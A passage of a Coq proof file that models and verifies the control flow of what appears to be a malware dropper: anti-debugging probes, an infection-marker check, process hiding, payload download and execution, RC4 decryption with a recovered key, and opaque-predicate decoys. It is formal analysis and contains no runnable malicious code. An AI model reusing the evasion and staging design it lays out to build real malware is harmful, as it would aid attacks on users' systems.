  one_pass st rv sen o s = Ret (Goto st' rv) s1 ->
  undisturbed {| _rk := _rk s; _key_ready := _key_ready s; _sm_flag := _sm_flag s;
                 n_malloc := n_malloc s; n_time := n_time s; n_fork := n_fork s;
                 n_mprotect := n_mprotect s; ds_null := ds_null s;
                 written := written s;
                 trace := trace s ++ [EvState st; EvCall f; EvRet f r] |} s1 ->
  st' = ST_EXIT_OK \/ st' = ST_EXIT_FAIL ->
  exists s',
    main_loop 2 st rv sen o s = Some (Ret (if st' =? ST_EXIT_OK then rv else 1) s')
    /\ trace s' = trace s ++ [EvState st; EvCall f; EvRet f r; EvState st']
    /\ n_fork s' = n_fork s /\ written s' = written s.
Proof.
  intros E (T & F & Wr) Hst. cbn [trace n_fork written] in T, F, Wr.
  destruct (main_loop_exit 0 st' rv sen o s1 Hst) as (s' & E' & T' & F' & Wr').
  exists s'. rewrite (main_loop_goto 1 _ _ _ _ _ s1 st' rv E).
  split; [exact E'|]. split; [|split; congruence].
  rewrite T', T, <- !app_assoc. reflexivity.
Qed.

(** ** The stream cipher: results *)

(** C2.  For every non-empty key [k] and all data bytes [d], [_rc4i]
    followed by [_rc4x] succeeds, and running both again, from a second
    fresh context set up with [k], on the result gives [d] back. *)
Theorem rc4_self_inverse (c0 c0' : _rc4) (k d : list Z) :
  length (c_S c0) = 256%nat -> length (c_S c0') = 256%nat ->
  k <> [] -> Forall is_byte d ->
  exists c1 c2 e c3 c4,
    _rc4i c0 k (Z.of_nat (length k)) = Some c1 /\
    _rc4x c1 d (Z.of_nat (length d)) = Some (c2, e) /\
    _rc4i c0' k (Z.of_nat (length k)) = Some c3 /\
    _rc4x c3 e (Z.of_nat (length e)) = Some (c4, d).
Proof.
  intros H0 H0' Hk Hd.
  destruct (rc4i_spec c0 k H0 Hk) as (t & Hi & _).
  destruct (rc4x_spec (mk_rc4 t 0 0) d (Z.of_nat (length d)) ltac:(lia))
    as (e & He & Hlen & Hlk).
  destruct (rc4x_spec (mk_rc4 t 0 0) e (Z.of_nat (length e)) ltac:(lia))
    as (d' & Hd' & Hlen' & Hlk').
  exists (mk_rc4 t 0 0), (rc4x_run (Z.to_nat (Z.of_nat (length d))) (mk_rc4 t 0 0)), e,
    (mk_rc4 t 0 0), (rc4x_run (Z.to_nat (Z.of_nat (length e))) (mk_rc4 t 0 0)).
  split; [exact Hi|]. split; [exact He|].
  split; [by rewrite (rc4i_fresh c0' c0)|].
  rewrite Hd'. do 2 f_equal. apply list_eq. intros m.
  rewrite Hlk', Hlk, Hlen, Nat2Z.id.
  case_decide as Hm; [|done].
  destruct (lookup_lt_is_Some_2 d m Hm) as [b Hb]. rewrite Hb. simpl.
  f_equal. apply xor8_cancel. by eapply (Forall_lookup_1 is_byte d).
Qed.

Lemma rc4_self_inverse_witness :
  exists c1 c2 e c3 c4,
    _rc4i (mk_rc4 (replicate 256 0) 0 0) [75; 101; 121] 3 = Some c1 /\
    _rc4x c1 [80; 108; 97; 105; 110] 5 = Some (c2, e) /\
    _rc4i (mk_rc4 (replicate 256 9) 4 2) [75; 101; 121] 3 = Some c3 /\
    _rc4x c3 e (Z.of_nat (length e)) = Some (c4, [80; 108; 97; 105; 110]).
Proof.
  apply (rc4_self_inverse (mk_rc4 (replicate 256 0) 0 0) (mk_rc4 (replicate 256 9) 4 2)
           [75; 101; 121] [80; 108; 97; 105; 110]).
  - reflexivity.
  - reflexivity.
  - discriminate.
  - repeat constructor; unfold is_byte; lia.
Defined.

(** Without a key the schedule divides by zero. *)
Example rc4i_empty_key (c : _rc4) : _rc4i c [] 0 = None.
Proof.
  unfold _rc4i. destruct (for_loop 256 0 rc4i_fill (c_S c)); reflexivity.
Qed.

(** C6.  After [_rc4i] with a non-empty key the table [S] is a permutation
    of [0..255]; one round of [_rc4x] and every run of [_rc4x] inside its
    buffer keep the table such a permutation. *)
Theorem rc4_table_permutation (c c' : _rc4) (k d : list Z) (l : Z) :
  length (c_S c) = 256%nat -> k <> [] ->
  Permutation (c_S c') identity_table -> l <= Z.of_nat (length d) ->
  (exists c1, _rc4i c k (Z.of_nat (length k)) = Some c1
              /\ Permutation (c_S c1) identity_table)
  /\ Permutation (c_S (rc4x_next c')) identity_table
  /\ (exists c2 d', _rc4x c' d l = Some (c2, d')
                    /\ Permutation (c_S c2) identity_table).
Proof.
  intros Hc Hk Hc' Hl. split; [|split].
  - destruct (rc4i_spec c k Hc Hk) as (t & Hi & Hp). eauto.
  - by apply rc4x_next_Permutation.
  - destruct (rc4x_spec c' d l Hl) as (d' & Hx & _).
    eexists _, _. split; [exact Hx|]. by apply rc4x_run_Permutation.
Qed.

Lemma rc4_table_permutation_witness :
  (exists c1, _rc4i (mk_rc4 (replicate 256 0) 0 0) [75; 101; 121] 3 = Some c1
              /\ Permutation (c_S c1) identity_table)
  /\ Permutation (c_S (rc4x_next (mk_rc4 identity_table 0 0))) identity_table
  /\ (exists c2 d', _rc4x (mk_rc4 identity_table 0 0) [1; 2; 3] 2 = Some (c2, d')
                    /\ Permutation (c_S c2) identity_table).
Proof.
  apply (rc4_table_permutation (mk_rc4 (replicate 256 0) 0 0)
           (mk_rc4 identity_table 0 0) [75; 101; 121] [1; 2; 3] 2).
  - reflexivity.
  - discriminate.
  - reflexivity.
  - simpl. lia.
Defined.

(** ** The dispatcher: results *)

Lemma ends_as_exit_code (o : oracle) (r : result Z) (c : Z) :
  ends_as o r (AReturn c) -> exit_code (Some r) = Some c.
Proof. intros (s' & ->). reflexivity. Qed.

(** C1.  In every run of [main], as soon as one of the three probes
    [_ad_ptrace], [_ad_timing], [_ad_proc] has returned a nonzero value, the
    run goes through [ST_EXIT_FAIL], [main] returns 1, and neither
    [_download] nor [_exec_payload] is called at any point of the run. *)
Theorem guard_detection_aborts (o : oracle) (f : fn) (x : Z) :
  In f [F_ad_ptrace; F_ad_timing; F_ad_proc] ->
  In (EvRet f x) (run_trace (main 12 o)) -> x <> 0 ->
  exit_code (main 12 o) = Some 1
  /\ In (EvState ST_EXIT_FAIL) (run_trace (main 12 o))
  /\ ~ In (EvCall F_download) (run_trace (main 12 o))
  /\ ~ In (EvCall F_exec_payload) (run_trace (main 12 o)).
Proof.
  destruct (main_run o) as (r & fin & -> & Hrun & He). cbn [run_trace].
  intros Hf Hin Hx.
  destruct (arun_guard_detection _ _ f x Hrun Hf Hin Hx) as (-> & Hrest).
  split; [by apply (ends_as_exit_code o)|exact Hrest].
Qed.

Lemma guard_detection_aborts_witness :
  exit_code (main 12 os_single_stepped) = Some 1
  /\ In (EvState ST_EXIT_FAIL) (run_trace (main 12 os_single_stepped))
  /\ ~ In (EvCall F_download) (run_trace (main 12 os_single_stepped))
  /\ ~ In (EvCall F_exec_payload) (run_trace (main 12 os_single_stepped)).
Proof.
  apply (guard_detection_aborts os_single_stepped F_ad_timing 1).
  - simpl. tauto.
  - vm_compute. tauto.
  - lia.
Defined.

(** C5.  In every run of [main] in which [_check_marker] returns nonzero
    (the marker exists; the three probes have then all returned 0), the run
    goes through [ST_EXIT_FAIL], [main] returns 1, and neither [_download]
    nor [_exec_payload] is called. *)
Theorem marker_present_aborts (o : oracle) (x : Z) :
  In (EvRet F_check_marker x) (run_trace (main 12 o)) -> x <> 0 ->
  exit_code (main 12 o) = Some 1
  /\ In (EvState ST_EXIT_FAIL) (run_trace (main 12 o))
  /\ In (EvRet F_ad_ptrace 0) (run_trace (main 12 o))
  /\ In (EvRet F_ad_timing 0) (run_trace (main 12 o))
  /\ In (EvRet F_ad_proc 0) (run_trace (main 12 o))
  /\ ~ In (EvCall F_download) (run_trace (main 12 o))
  /\ ~ In (EvCall F_exec_payload) (run_trace (main 12 o)).
Proof.
  destruct (main_run o) as (r & fin & -> & Hrun & He). cbn [run_trace].
  intros Hin Hx.
  destruct (arun_marker_present _ _ x Hrun Hin Hx) as (-> & Hrest).
  split; [by apply (ends_as_exit_code o)|exact Hrest].
Qed.

Lemma marker_present_aborts_witness :
  exit_code (main 12 os_marker_present) = Some 1
  /\ In (EvState ST_EXIT_FAIL) (run_trace (main 12 os_marker_present))
  /\ In (EvRet F_ad_ptrace 0) (run_trace (main 12 os_marker_present))
  /\ In (EvRet F_ad_timing 0) (run_trace (main 12 os_marker_present))
  /\ In (EvRet F_ad_proc 0) (run_trace (main 12 os_marker_present))
  /\ ~ In (EvCall F_download) (run_trace (main 12 os_marker_present))
  /\ ~ In (EvCall F_exec_payload) (run_trace (main 12 os_marker_present)).
Proof.
  apply (marker_present_aborts os_marker_present 1).
  - vm_compute. tauto.
  - lia.
Defined.

(** C3.  In the process [main] was started in, every run that reaches
    [ST_DOWNLOAD] gets an answer from [_download].  If it is nonzero, [main]
    returns 1 through [ST_EXIT_FAIL] and [_exec_payload] is never called.
    If it is 0, the run reaches [ST_EXIT_OK], never [ST_EXIT_FAIL],
    [_exec_payload] returns, and the exit code is 0 exactly when
    [_exec_payload] returned 0 (and 1 otherwise). *)
Theorem fetch_gates_execution (o : oracle) :
  parent o ->
  In (EvState ST_DOWNLOAD) (run_trace (main 12 o)) ->
  (exists x, In (EvRet F_download x) (run_trace (main 12 o)))
  /\ forall x, In (EvRet F_download x) (run_trace (main 12 o)) ->
       (x <> 0 ->
          exit_code (main 12 o) = Some 1
          /\ In (EvState ST_EXIT_FAIL) (run_trace (main 12 o))
          /\ ~ In (EvCall F_exec_payload) (run_trace (main 12 o)))
       /\ (x = 0 ->
          In (EvState ST_EXIT_OK) (run_trace (main 12 o))
          /\ ~ In (EvState ST_EXIT_FAIL) (run_trace (main 12 o))
          /\ exists y, In (EvRet F_exec_payload y) (run_trace (main 12 o))
               /\ forall y', In (EvRet F_exec_payload y') (run_trace (main 12 o)) ->
                    exit_code (main 12 o) = Some (if y' =? 0 then 0 else 1)).
Proof.
  destruct (main_run o) as (r & fin & -> & Hrun & He). cbn [run_trace].
  intros Hp Hin.
  assert (forall h, fin <> AHalt h) as Hh.
  { intros h ->. destruct He as (_ & _ & Hc). by apply Hc. }
  destruct (arun_fetch _ _ Hrun Hh Hin) as (Hex & Hall).
  split; [exact Hex|]. intros x Hx. destruct (Hall x Hx) as (Hne & Heq).
  split.
  - intros Hx0. destruct (Hne Hx0) as (-> & Hrest).
    split; [by apply (ends_as_exit_code o)|exact Hrest].
  - intros Hx0. destruct (Heq Hx0) as (Hok & Hnf & y & Hy & Hfin).
    split; [exact Hok|]. split; [exact Hnf|].
    exists y. split; [exact Hy|]. intros y' Hy'.
    apply (ends_as_exit_code o). rewrite <- (Hfin y' Hy'). exact He.
Qed.

Lemma fetch_gates_execution_witness :
  (exists x, In (EvRet F_download x) (run_trace (main 12 os_fetch_fails)))
  /\ forall x, In (EvRet F_download x) (run_trace (main 12 os_fetch_fails)) ->
       (x <> 0 ->
          exit_code (main 12 os_fetch_fails) = Some 1
          /\ In (EvState ST_EXIT_FAIL) (run_trace (main 12 os_fetch_fails))
          /\ ~ In (EvCall F_exec_payload) (run_trace (main 12 os_fetch_fails)))
       /\ (x = 0 ->
          In (EvState ST_EXIT_OK) (run_trace (main 12 os_fetch_fails))
          /\ ~ In (EvState ST_EXIT_FAIL) (run_trace (main 12 os_fetch_fails))
          /\ exists y, In (EvRet F_exec_payload y) (run_trace (main 12 os_fetch_fails))
               /\ forall y', In (EvRet F_exec_payload y')
                               (run_trace (main 12 os_fetch_fails)) ->
                    exit_code (main 12 os_fetch_fails)
                    = Some (if y' =? 0 then 0 else 1)).
Proof.
  apply (fetch_gates_execution os_fetch_fails).
  - intros n. simpl. lia.
  - vm_compute. tauto.
Defined.

(** C9.  With wrap-around [int] arithmetic [_opaque_true] is 1 and
    [_opaque_false] is 0 on every argument; so the pass entered in [ST_INIT]
    always leaves for [ST_ANTI_DEBUG_1] (never [ST_EXIT_FAIL]), the pass
    entered in [ST_CHECK_OS] never leaves for [ST_INIT], and every run of
    [main] enters [ST_INIT] once, first, followed by [ST_ANTI_DEBUG_1]. *)
Theorem decoy_edges_dead (x rv sen : Z) (o : oracle) (s : pstate) :
  _opaque_true x = 1
  /\ _opaque_false x = 0
  /\ dispatch ST_INIT rv sen o s = Ret (Goto ST_ANTI_DEBUG_1 rv) s
  /\ (forall rv' s', dispatch ST_CHECK_OS rv sen o s <> Ret (Goto ST_INIT rv') s')
  /\ exists rest,
       visited (run_trace (main 12 o)) = ST_INIT :: ST_ANTI_DEBUG_1 :: rest
       /\ ~ In ST_INIT rest.
Proof.
  split; [apply opaque_true_1|]. split; [apply opaque_false_0|].
  split; [|split].
  - unfold dispatch. cbn [Z.eqb ST_INIT Pos.eqb]. by rewrite opaque_true_1.
  - intros rv' s'.
    change (dispatch ST_CHECK_OS rv sen)
      with (r <- call F_check_os _check_os ;;
            if r =? 0 then ret (Goto ST_EXIT_FAIL rv)
            else if negb (_opaque_false sen =? 0) then ret (Goto ST_INIT rv)
            else ret (Goto ST_CHECK_MARKER rv)).
    unfold bind. destruct (call F_check_os _check_os o s) as [r s1|h s1]; [|done].
    rewrite opaque_false_0. by destruct (r =? 0).
  - destruct (main_run o) as (r & fin & -> & Hrun & _). cbn [run_trace].
    destruct (arun_decoys _ _ Hrun) as (rest & Hv & Hn & _). by exists rest.
Qed.

(** C10.  Whatever the operating system answers, the loop of [main] is
    left within twelve passes: the run ends, the states it entered are
    pairwise distinct, all among the twelve declared ones, at most eleven of
    them; and the run ends by [main] returning, unless [fork] returned 0 and
    the run went on in a child that ended in [exec] or [_exit]. *)
Theorem dispatcher_terminates (o : oracle) :
  exists r,
    main 12 o = Some r
    /\ NoDup (visited (trace (final_state r)))
    /\ incl (visited (trace (final_state r))) all_states
    /\ (length (visited (trace (final_state r))) <= 11)%nat
    /\ ((exists c s, r = Ret c s)
        \/ (exists h s, r = Halt h s /\ h <> Undefined /\ ~ parent o)).
Proof.
  destruct (main_run o) as (r & fin & Hm & Hrun & He).
  exists r. split; [exact Hm|].
  destruct (arun_visited _ _ _ _ Hrun) as (rest & Hv & _ & Hnd & Hlen).
  destruct (arun_decoys _ _ Hrun) as (_ & _ & _ & Hincl).
  rewrite Hv in *. split; [exact Hnd|]. split; [exact Hincl|].
  split; [exact Hlen|].
  destruct fin as [? ?|c|h]; cbn [ends_as] in He; [done| |].
  - left. destruct He as (s' & ->). by eexists _, _.
  - right. destruct He as ((s' & ->) & Hh & Hc). by eexists _, _.
Qed.

Lemma dispatcher_terminates_witness :
  exists r,
    main 12 os_out_of_memory = Some r
    /\ NoDup (visited (trace (final_state r)))
    /\ incl (visited (trace (final_state r))) all_states
    /\ (length (visited (trace (final_state r))) <= 11)%nat
    /\ ((exists c s, r = Ret c s)
        \/ (exists h s, r = Halt h s /\ h <> Undefined /\ ~ parent os_out_of_memory)).
Proof. apply (dispatcher_terminates os_out_of_memory). Defined.

(** ** Key, flag and decoding: results *)

(** The recovered key spells "gh0st_k3y_2024". *)
Example recovered_key_bytes :
  recovered_key = [103; 104; 48; 115; 116; 95; 107; 51; 121; 95; 50; 48; 50; 52].
Proof. reflexivity. Qed.

(** C7.  Calling [_recover_key] [n >= 1] times leaves the same state as
    calling it once.  When the key is not ready, one call makes [_rk] the
    bytes of [_ks] each XOR-ed with 0xa5 and sets [_key_ready]; a call on a
    state in which the key is ready changes nothing. *)
Theorem recover_key_idempotent (o : oracle) (s : pstate) (n : nat) :
  WF s -> (1 <= n)%nat ->
  recover_key_times n o s = _recover_key o s
  /\ (_key_ready s = 0 ->
      exists s', _recover_key o s = Ret tt s'
        /\ _rk s' = (fun b => xor8 b 0xa5) <$> _ks
        /\ _key_ready s' = 1
        /\ _recover_key o s' = Ret tt s')
  /\ (_key_ready s <> 0 -> _recover_key o s = Ret tt s).
Proof.
  intros H Hn. split; [by apply recover_key_times_eq|]. split.
  - intros Hk. rewrite (recover_key_eq o s H). unfold after_recover. rewrite Hk.
    cbn [Z.eqb]. eexists. split; [reflexivity|]. cbn [_rk _key_ready].
    split; [reflexivity|]. split; [reflexivity|]. by apply recover_key_ready.
  - apply recover_key_ready.
Qed.

Lemma recover_key_idempotent_witness :
  recover_key_times 3 os_clean init_pstate = _recover_key os_clean init_pstate
  /\ (_key_ready init_pstate = 0 ->
      exists s', _recover_key os_clean init_pstate = Ret tt s'
        /\ _rk s' = (fun b => xor8 b 0xa5) <$> _ks
        /\ _key_ready s' = 1
        /\ _recover_key os_clean s' = Ret tt s')
  /\ (_key_ready init_pstate <> 0 ->
      _recover_key os_clean init_pstate = Ret tt init_pstate).
Proof.
  apply (recover_key_idempotent os_clean init_pstate 3).
  - reflexivity.
  - lia.
Defined.




Lemma dispatch_check_os (rv sen : Z) :
  dispatch ST_CHECK_OS rv sen
  = (r <- call F_check_os _check_os ;;
     if r =? 0 then ret (Goto ST_EXIT_FAIL rv)
     else if negb (_opaque_false sen =? 0) then ret (Goto ST_INIT rv)
     else ret (Goto ST_CHECK_MARKER rv)).
Proof. reflexivity. Qed.

Lemma dispatch_download (rv sen : Z) :
  dispatch ST_DOWNLOAD rv sen
  = (r <- call F_download _download ;;
     if negb (r =? 0) then ret (Goto ST_EXIT_FAIL rv)
     else ret (Goto ST_EXEC rv)).
Proof. reflexivity. Qed.

Lemma dispatch_exec (rv sen : Z) :
  dispatch ST_EXEC rv sen
  = (r <- call F_exec_payload _exec_payload ;;
     ret (Goto ST_EXIT_OK (if r =? 0 then 0 else rv))).
Proof. reflexivity. Qed.

Lemma dispatch_ad_proc (rv sen : Z) :
  dispatch ST_ANTI_DEBUG_3 rv sen
  = (r <- call F_ad_proc _ad_proc ;;
     if negb (r =? 0) then ret (Goto ST_EXIT_FAIL rv)
     else ret (Goto ST_SELF_MODIFY rv)).
Proof. reflexivity. Qed.

Lemma dispatch_check_marker (rv sen : Z) :
  dispatch ST_CHECK_MARKER rv sen
  = (r <- call F_check_marker _check_marker ;;
     if negb (r =? 0) then ret (Goto ST_EXIT_FAIL rv)
     else ret (Goto ST_HIDE_PROC rv)).
Proof. reflexivity. Qed.

Lemma one_pass_hide_proc (rv sen : Z) (o : oracle) (s : pstate) :
  WF s ->
  exists s', one_pass ST_HIDE_PROC rv sen o s = Ret (Goto ST_DOWNLOAD rv) s'
    /\ trace s' = trace s ++ [EvState ST_HIDE_PROC; EvCall F_hide_proc; EvDone F_hide_proc]
    /\ (os_malloc o (n_malloc s) = false ->
        written s' = written s /\ n_fork s' = n_fork s).
Proof.
  intros H. destruct (dispatch_astep ST_HIDE_PROC rv sen o s H) as (evs & nx & Ha & Hx & Hp).
  inversion Ha; subst; [|default_absurd].
  destruct Hx as (s' & E). rewrite E in Hp. destruct Hp as (_ & T & _).
  exists s'. split; [exact E|]. split; [exact T|]. intros Hm.
  revert E. unfold one_pass, bind at 1. unfold log at 1.
  change (dispatch ST_HIDE_PROC rv sen)
    with (call_void F_hide_proc _hide_proc ;;; ret (Goto ST_DOWNLOAD rv)).
  unfold call_void, bind, log, ret.
  match goal with |- context [_hide_proc o ?s0] =>
    destruct (hide_proc_null o s0 H Hm) as (s1 & -> & _ & F & Wr) end.
  intros E. injection E as <-. by split.
Qed.

(** C4, amended.  On an entry of the table [_ds] returns NULL exactly when
    its [malloc] fails, and a buffer of [len + 1] bytes otherwise.  A failed
    decode in [_check_os] or in [_download] makes the function return 0 and
    -1, the pass leave for [ST_EXIT_FAIL] and the loop end with 1; one in
    [_exec_payload] makes it return -1, the pass leave for [ST_EXIT_OK]
    with [retval] as it was, which the loop then returns (1 in [main]);
    neither forks.  A failed decode in [_ad_proc] or [_check_marker] is
    absorbed: the function returns 0 and the pass leaves for
    [ST_SELF_MODIFY] and [ST_HIDE_PROC].  The pass of [_hide_proc] leaves
    for [ST_DOWNLOAD] in any case, and after a failed decode it has written
    nothing. *)
Theorem decode_failure_routes (o : oracle) (s : pstate) (e : Z * Z) (rv sen : Z) :
  WF s -> In e string_table ->
  (exists buf, length buf = Z.to_nat (snd e + 1)
     /\ _ds_at e o s
        = Ret (if os_malloc o (n_malloc s) then Some buf else None) (after_ds o s))
  /\ (os_malloc o (n_malloc s) = false ->
      exists s1 s',
        one_pass ST_CHECK_OS rv sen o s = Ret (Goto ST_EXIT_FAIL rv) s1
        /\ main_loop 2 ST_CHECK_OS rv sen o s = Some (Ret 1 s')
        /\ trace s' = trace s ++ [EvState ST_CHECK_OS; EvCall F_check_os;
                                  EvRet F_check_os 0; EvState ST_EXIT_FAIL])
  /\ (allocs_ok o (n_malloc s) 5 = false ->
      exists s1 s',
        one_pass ST_DOWNLOAD rv sen o s = Ret (Goto ST_EXIT_FAIL rv) s1
        /\ main_loop 2 ST_DOWNLOAD rv sen o s = Some (Ret 1 s')
        /\ trace s' = trace s ++ [EvState ST_DOWNLOAD; EvCall F_download;
                                  EvRet F_download (-1); EvState ST_EXIT_FAIL]
        /\ n_fork s' = n_fork s)
  /\ (allocs_ok o (n_malloc s) 3 = false ->
      exists s1 s',
        one_pass ST_EXEC rv sen o s = Ret (Goto ST_EXIT_OK rv) s1
        /\ main_loop 2 ST_EXEC rv sen o s = Some (Ret rv s')
        /\ trace s' = trace s ++ [EvState ST_EXEC; EvCall F_exec_payload;
                                  EvRet F_exec_payload (-1); EvState ST_EXIT_OK]
        /\ n_fork s' = n_fork s)
  /\ (allocs_ok o (n_malloc s) 2 = false ->
      exists s', one_pass ST_ANTI_DEBUG_3 rv sen o s = Ret (Goto ST_SELF_MODIFY rv) s'
        /\ trace s' = trace s ++ [EvState ST_ANTI_DEBUG_3; EvCall F_ad_proc;
                                  EvRet F_ad_proc 0])
  /\ (os_malloc o (n_malloc s) = false ->
      exists s', one_pass ST_CHECK_MARKER rv sen o s = Ret (Goto ST_HIDE_PROC rv) s'
        /\ trace s' = trace s ++ [EvState ST_CHECK_MARKER; EvCall F_check_marker;
                                  EvRet F_check_marker 0])
  /\ (exists s', one_pass ST_HIDE_PROC rv sen o s = Ret (Goto ST_DOWNLOAD rv) s'
        /\ trace s' = trace s ++ [EvState ST_HIDE_PROC; EvCall F_hide_proc;
                                  EvDone F_hide_proc]
        /\ (os_malloc o (n_malloc s) = false ->
            written s' = written s /\ n_fork s' = n_fork s)).
Proof.
  intros H He. split; [by apply ds_at_spec|].
  split; [|split; [|split; [|split; [|split]]]].
  - intros Hm.
    destruct (one_pass_call ST_CHECK_OS rv sen _ _ _ o s 0 (dispatch_check_os rv sen))
      as (s1 & E & U); [|exact H|].
    { intros s0 W N. apply check_os_null; [exact W|by rewrite N]. }
    destruct (failed_pass_exits _ rv sen _ _ ST_EXIT_FAIL o s s1 E U)
      as (s' & E' & T & _); [by right|].
    by exists s1, s'.
  - intros Hm.
    destruct (one_pass_call ST_DOWNLOAD rv sen _ _ _ o s (-1) (dispatch_download rv sen))
      as (s1 & E & U); [|exact H|].
    { intros s0 W N. apply download_null; [exact W|by rewrite N]. }
    destruct (failed_pass_exits _ rv sen _ _ ST_EXIT_FAIL o s s1 E U)
      as (s' & E' & T & F & _); [by right|].
    by exists s1, s'.
  - intros Hm.
    destruct (one_pass_call ST_EXEC rv sen _ _ _ o s (-1) (dispatch_exec rv sen))
      as (s1 & E & U); [|exact H|].
    { intros s0 W N. apply exec_payload_null; [exact W|by rewrite N]. }
    destruct (failed_pass_exits _ rv sen _ _ ST_EXIT_OK o s s1 E U)
      as (s' & E' & T & F & _); [by left|].
    by exists s1, s'.
  - intros Hm.
    destruct (one_pass_call ST_ANTI_DEBUG_3 rv sen _ _ _ o s 0 (dispatch_ad_proc rv sen))
      as (s1 & E & T & _); [|exact H|].
    { intros s0 W N. apply ad_proc_null; [exact W|by rewrite N]. }
    by exists s1.
  - intros Hm.
    destruct (one_pass_call ST_CHECK_MARKER rv sen _ _ _ o s 0
                (dispatch_check_marker rv sen)) as (s1 & E & T & _); [|exact H|].
    { intros s0 W N. apply check_marker_null; [exact W|by rewrite N]. }
    by exists s1.
  - by apply one_pass_hide_proc.
Qed.

Lemma decode_failure_routes_witness :
  (exists buf, length buf = Z.to_nat (snd S_TRACER + 1)
     /\ _ds_at S_TRACER os_out_of_memory init_pstate
        = Ret (if os_malloc os_out_of_memory (n_malloc init_pstate)
               then Some buf else None) (after_ds os_out_of_memory init_pstate))
  /\ (os_malloc os_out_of_memory (n_malloc init_pstate) = false ->
      exists s1 s',
        one_pass ST_CHECK_OS 1 4242 os_out_of_memory init_pstate
        = Ret (Goto ST_EXIT_FAIL 1) s1
        /\ main_loop 2 ST_CHECK_OS 1 4242 os_out_of_memory init_pstate
           = Some (Ret 1 s')
        /\ trace s' = trace init_pstate
                      ++ [EvState ST_CHECK_OS; EvCall F_check_os;
                          EvRet F_check_os 0; EvState ST_EXIT_FAIL])
  /\ (allocs_ok os_out_of_memory (n_malloc init_pstate) 5 = false ->
      exists s1 s',
        one_pass ST_DOWNLOAD 1 4242 os_out_of_memory init_pstate
        = Ret (Goto ST_EXIT_FAIL 1) s1
        /\ main_loop 2 ST_DOWNLOAD 1 4242 os_out_of_memory init_pstate
           = Some (Ret 1 s')
        /\ trace s' = trace init_pstate
                      ++ [EvState ST_DOWNLOAD; EvCall F_download;
                          EvRet F_download (-1); EvState ST_EXIT_FAIL]
        /\ n_fork s' = n_fork init_pstate)
  /\ (allocs_ok os_out_of_memory (n_malloc init_pstate) 3 = false ->
      exists s1 s',
        one_pass ST_EXEC 1 4242 os_out_of_memory init_pstate
        = Ret (Goto ST_EXIT_OK 1) s1
        /\ main_loop 2 ST_EXEC 1 4242 os_out_of_memory init_pstate
           = Some (Ret 1 s')
        /\ trace s' = trace init_pstate
                      ++ [EvState ST_EXEC; EvCall F_exec_payload;
                          EvRet F_exec_payload (-1); EvState ST_EXIT_OK]
        /\ n_fork s' = n_fork init_pstate)
  /\ (allocs_ok os_out_of_memory (n_malloc init_pstate) 2 = false ->
      exists s', one_pass ST_ANTI_DEBUG_3 1 4242 os_out_of_memory init_pstate
                 = Ret (Goto ST_SELF_MODIFY 1) s'
        /\ trace s' = trace init_pstate
                      ++ [EvState ST_ANTI_DEBUG_3; EvCall F_ad_proc; EvRet F_ad_proc 0])
  /\ (os_malloc os_out_of_memory (n_malloc init_pstate) = false ->
      exists s', one_pass ST_CHECK_MARKER 1 4242 os_out_of_memory init_pstate
                 = Ret (Goto ST_HIDE_PROC 1) s'
        /\ trace s' = trace init_pstate
                      ++ [EvState ST_CHECK_MARKER; EvCall F_check_marker;
                          EvRet F_check_marker 0])
  /\ (exists s', one_pass ST_HIDE_PROC 1 4242 os_out_of_memory init_pstate
                 = Ret (Goto ST_DOWNLOAD 1) s'
        /\ trace s' = trace init_pstate
                      ++ [EvState ST_HIDE_PROC; EvCall F_hide_proc; EvDone F_hide_proc]
        /\ (os_malloc os_out_of_memory (n_malloc init_pstate) = false ->
            written s' = written init_pstate /\ n_fork s' = n_fork init_pstate)).
Proof.
  apply (decode_failure_routes os_out_of_memory init_pstate S_TRACER 1 4242).
  - reflexivity.
  - simpl. tauto.
Defined.

(** A run of [main] in which only the three allocations of [_exec_payload]
    fail: the payload has been fetched by the one child forked, and [main]
    returns 1 through [ST_EXIT_OK]. *)
Example exec_decode_failure_run :
  exists s',
    main 12 os_exec_out_of_memory = Some (Ret 1 s')
    /\ ds_null s' = 3%nat /\ n_fork s' = 1%nat
    /\ In (EvRet F_download 0) (trace s')
    /\ In (EvRet F_exec_payload (-1)) (trace s')
    /\ In (EvState ST_EXIT_OK) (trace s')
    /\ ~ In (EvState ST_EXIT_FAIL) (trace s').
Proof.
  eexists. split; [vm_compute; reflexivity|].
  split; [reflexivity|]. split; [reflexivity|].
  split; [simpl; tauto|]. split; [simpl; tauto|]. split; [simpl; tauto|].
  intros Hc. simpl in Hc. intuition discriminate.
Qed.

(** C4 as stated fails: when the two allocations of [_ad_proc] fail and
    everything else succeeds, two decodes have failed and yet the run calls
    [_download] and [_exec_payload] and [main] returns 0. *)
Lemma decode_failure_not_fatal :
  exists s',
    main 12 os_probe_out_of_memory = Some (Ret 0 s')
    /\ ds_null s' = 2%nat
    /\ In (EvCall F_download) (trace s')
    /\ In (EvCall F_exec_payload) (trace s').
Proof.
  eexists. split; [vm_compute; reflexivity|].
  split; [reflexivity|]. split; simpl; tauto.
Qed.

(** ** The cipher and its buffers *)

Lemma for_loop_app {A : Type} (body : A -> Z -> option A) (n m : nat) (i : Z) (a : A) :
  for_loop (n + m) i body a
  = match for_loop n i body a with
    | Some a' => for_loop m (i + Z.of_nat n) body a'
    | None => None
    end.
Proof.
  revert i a. induction n as [|n IH]; intros i a.
  - cbn [for_loop Nat.add]. f_equal. lia.
  - cbn [for_loop Nat.add]. destruct (body a i) as [a'|]; [|reflexivity].
    rewrite IH. destruct (for_loop n (i + 1) body a'); [|reflexivity].
    f_equal. lia.
Qed.

Lemma for_loop_ext {A : Type} (body body' : A -> Z -> option A) (n : nat) (i : Z) (a : A) :
  (forall k x, i <= k < i + Z.of_nat n -> body x k = body' x k) ->
  for_loop n i body a = for_loop n i body' a.
Proof.
  revert i a. induction n as [|n IH]; intros i a H; [reflexivity|].
  cbn [for_loop]. rewrite <- (H i a) by lia.
  destruct (body a i) as [a'|]; [|reflexivity]. apply IH. intros k x Hk. apply H. lia.
Qed.

(** X1.  [_rc4x(c, d, l)] stays inside the buffer [d] exactly when [l] is
    at most its size: a larger [l] runs past its end. *)
Theorem rc4x_in_bounds (c : _rc4) (d : list Z) (l : Z) :
  _rc4x c d l = None <-> Z.of_nat (length d) < l.
Proof.
  split.
  - intros E. destruct (Z.lt_ge_cases (Z.of_nat (length d)) l) as [|Hle]; [done|].
    destruct (rc4x_spec c d l ltac:(lia)) as (d' & E' & _). congruence.
  - intros Hl. unfold _rc4x.
    replace (Z.to_nat l) with (length d + S (Z.to_nat l - S (length d)))%nat by lia.
    rewrite for_loop_app.
    destruct (rc4x_spec c d (Z.of_nat (length d)) ltac:(lia)) as (d' & E' & Hlen & _).
